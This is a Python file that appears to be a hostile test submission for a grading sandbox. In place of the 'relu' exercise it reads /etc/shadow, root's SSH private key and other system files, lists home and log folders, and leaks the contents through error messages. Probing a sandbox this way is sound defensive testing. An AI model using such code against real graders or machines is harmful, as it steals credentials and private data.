"""Reads what the machine knows.

Attack: Accounts, hosts, keys, the instructor's home.
Expect: no_point
Exercise: relu
Effect: leak:LEAK
"""

import os

FILES = ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/machine-id", "/etc/ssh/sshd_config",
         "/root/.bashrc", "/root/.ssh/id_rsa", "/root/.gitconfig")
FOLDERS = ("/root", "/home", "/var/log", "/var/lib", "/mnt", "/srv", "/boot")


def relu(z):
    for place in FILES:
        try:
            with open(place, "rb") as file:
                text = repr(file.read(40))
        except OSError:
            continue
        raise RuntimeError("LEAK " + place + " " + text)
    for place in FOLDERS:
        try:
            names = os.listdir(place)
        except OSError:
            continue
        if names:
            raise RuntimeError("LEAK " + place + " " + " ".join(names)[:60])
    raise RuntimeError("SAFE")
